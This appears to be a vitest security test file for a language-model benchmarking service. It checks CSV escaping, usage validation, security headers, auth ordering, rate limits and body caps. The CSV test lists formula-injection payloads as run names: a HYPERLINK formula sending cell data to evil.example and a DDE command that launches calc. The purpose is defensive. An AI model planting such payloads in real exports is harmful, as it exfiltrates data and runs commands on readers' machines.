// What a hostile user's input or server could otherwise turn against a reader or the service:
// formulas in the CSV, absurd usage numbers, missing security headers, validation before
// authentication, unbounded pings and reference bodies, and a status read that scans every probe.
import { env } from "cloudflare:workers";
import { afterEach, describe, expect, it, vi } from "vitest";
import { runStatus } from "../../src/lifecycle/runs";
import { api, createRun, fakeUpstream, needleRun, waitForStatus } from "./helpers";

vi.setConfig({ testTimeout: 30_000 });

afterEach(() => {
  vi.unstubAllGlobals();
});

const answer = (usage: Record<string, unknown>) =>
  new Response(JSON.stringify({ choices: [{ text: "eat a sandwich and sit in Dolores Park on a sunny day", finish_reason: "stop" }], usage }), { headers: { "content-type": "application/json" } });

describe("the leaderboard's CSV", () => {
  it("prefixes cells a spreadsheet would run as formulas, so they read as text", async () => {
    fakeUpstream(vi, () => answer({ prompt_tokens: 1000, completion_tokens: 12 }));
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"];
    for (const name of names) await waitForStatus((await createRun(needleRun({ suites: [{ type: "needle", context_lengths: [1000], depth_percents: [50] }] }, { name }))).id, ["succeeded"]);
    const csv = await (await api("/v1/leaderboard?format=csv&limit=500")).text();
    for (const name of names) {
      expect(csv).not.toMatch(new RegExp(`(^|,|")${name.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}`, "m"));
      expect(csv).toContain(`'${name}`.replaceAll('"', '""'));
    }
  });
});

describe("usage an endpoint reports", () => {
  it("is dropped and flagged when it cannot be true, and never reaches the run's totals", async () => {
    const usages = [{ prompt_tokens: -1e16, completion_tokens: 12 }, { prompt_tokens: 1e308, completion_tokens: 12 }, { prompt_tokens: 1000.5, completion_tokens: 12 }, { prompt_tokens: 1000, completion_tokens: 12, prompt_tokens_details: { cached_tokens: 5000 } }];
    let n = 0;
    fakeUpstream(vi, () => answer(usages[n++ % usages.length]!));
    const run = await createRun(needleRun({ suites: [{ type: "needle", context_lengths: [1000], depth_percents: [0, 33, 66, 100] }] }, { max_concurrency: 1 }));
    const done = (await waitForStatus(run.id, ["succeeded"])) as { usage: { prompt_tokens: number; cached_tokens: number } };
    const probes = ((await (await api(`/v1/runs/${run.id}/probes`)).json()) as { data: { prompt_tokens: number | null; cached_tokens: number | null; usage_dropped: boolean }[] }).data;
    expect(probes.map((p) => p.usage_dropped)).toEqual([true, true, true, true]);
    expect(probes.slice(0, 3).map((p) => p.prompt_tokens)).toEqual([null, null, null]);
    expect(probes[3]).toMatchObject({ prompt_tokens: 1000, cached_tokens: null });
    expect(done.usage).toMatchObject({ prompt_tokens: 1000, cached_tokens: 0 });
  });
});

describe("security headers", () => {
  it("come with every answer: pages, the API and errors", async () => {
    for (const path of ["/", "/v1/leaderboard", "/v1/runs/nope", "/docs"]) {
      const res = await api(path);
      expect(res.headers.get("content-security-policy"), path).toContain("frame-ancestors 'none'");
      expect(res.headers.get("content-security-policy"), path).toContain("script-src 'self'");
      expect(res.headers.get("x-content-type-options"), path).toBe("nosniff");
      expect(res.headers.get("referrer-policy"), path).toBe("no-referrer");
    }
  });

  it("let the run page load its script from our own origin only", async () => {
    fakeUpstream(vi, () => answer({ prompt_tokens: 1000, completion_tokens: 12 }));
    const run = await createRun(needleRun({ suites: [{ type: "needle", context_lengths: [1000], depth_percents: [50] }] }));
    const page = await (await api(`/runs/${run.id}`)).text();
    expect(page).toContain('<script src="/assets/run-page.js">');
    expect(page).not.toMatch(/<script>[^<]/);
    const script = await api("/assets/run-page.js");
    expect(script.headers.get("content-type")).toContain("javascript");
    expect(await script.text()).toContain("EventSource");
  });
});

describe("token routes", () => {
  it("authenticate before they validate: 401 without a token and 403 for another one, whatever the body", async () => {
    for (const [path, method, json] of [
      ["/v1/accounts", "POST", { nonsense: true }],
      ["/v1/accounts/acc_x/tokens", "POST", { nonsense: true }],
      ["/v1/tokens/" + "x".repeat(200), "DELETE", undefined],
      ["/v1/account", "GET", undefined],
    ] as const) {
      expect((await api(path, { method, json, token: null })).status, path).toBe(401);
    }
    const account = (await (await api("/v1/accounts", { method: "POST", json: { name: "not-admin" } })).json()) as { token: { token: string } };
    expect((await api("/v1/accounts", { method: "POST", json: { nonsense: true }, token: account.token.token })).status).toBe(403);
  });
});

describe("webhook pings", () => {
  it("are limited per run and minute: the next one answers 429 with Retry-After", async () => {
    fakeUpstream(vi, () => answer({ prompt_tokens: 1000, completion_tokens: 12 }));
    const run = await createRun(needleRun({ webhook: { url: "https://hooks.example.com/h" }, suites: [{ type: "needle", context_lengths: [1000], depth_percents: [50] }] }));
    for (let i = 0; i < 5; i++) expect((await api(`/v1/runs/${run.id}/webhook-deliveries/ping`, { method: "POST" })).status).toBe(202);
    const refused = await api(`/v1/runs/${run.id}/webhook-deliveries/ping`, { method: "POST" });
    expect(refused.status).toBe(429);
    expect(Number(refused.headers.get("retry-after"))).toBeGreaterThan(0);
    await api(`/v1/runs/${run.id}/cancel`, { method: "POST" });
  });
});

describe("the reference models", () => {
  it("refuse request bodies over their cap with 413, as an OpenAI-style error", async () => {
    const res = await api("/reference/v1/completions", { method: "POST", token: null, json: { model: "extractive-128k", prompt: "x".repeat(5 * 1024 * 1024), max_tokens: 5 } });
    expect(res.status).toBe(413);
    expect(((await res.json()) as { error: { message: string } }).error.message).toContain("limited to");
  });
});

describe("a live run's status read", () => {
  it("does not read every probe on every request: the aggregates are reused while nothing settled", async () => {
    fakeUpstream(vi, () => new Promise<Response>(() => undefined)); // calls never end: the run stays live
    const run = await createRun(needleRun({ suites: [{ type: "needle", context_lengths: [1000, 2000], depth_percents: [0, 50, 100] }] }, { max_concurrency: 1 }));
    const queries: string[] = [];
    const counting = new Proxy(env.DB, {
      get(target, prop, receiver) {
        if (prop === "prepare") return (sql: string) => (queries.push(sql), target.prepare(sql));
        const value = Reflect.get(target, prop, receiver);
        return typeof value === "function" ? value.bind(target) : value;
      },
    });
    const countingEnv = { ...env, DB: counting } as unknown as Env;
    await runStatus(countingEnv, null, run.id);
    expect(queries.some((q) => /from "probes"/.test(q))).toBe(true);
    queries.length = 0;
    const again = await runStatus(countingEnv, null, run.id);
    expect(queries.some((q) => /from "probes"/.test(q))).toBe(false);
    expect(again.progress.total).toBe(6);
    await api(`/v1/runs/${run.id}/cancel`, { method: "POST" });
  });
});
